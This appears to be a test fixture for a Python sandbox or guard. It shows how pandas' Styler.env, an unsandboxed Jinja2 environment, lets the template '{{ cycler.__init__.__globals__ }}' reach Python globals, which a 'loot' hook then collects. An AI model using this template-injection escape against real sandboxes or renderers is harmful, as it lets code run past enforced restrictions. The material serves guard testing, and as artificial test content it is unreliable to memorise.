# aim: render a template that reads attributes
# mechanism: Styler.env is a jinja2 environment without a sandbox
# language: guard
# reason: templates run code past the rules
# jail: process
# plain: loot
# imports: pandas jinja2

import pandas

environment = pandas.DataFrame({"a": [1]}).style.env
loot(environment.from_string("{{ cycler.__init__.__globals__ }}").render() and environment.globals["cycler"].__init__.__globals__)
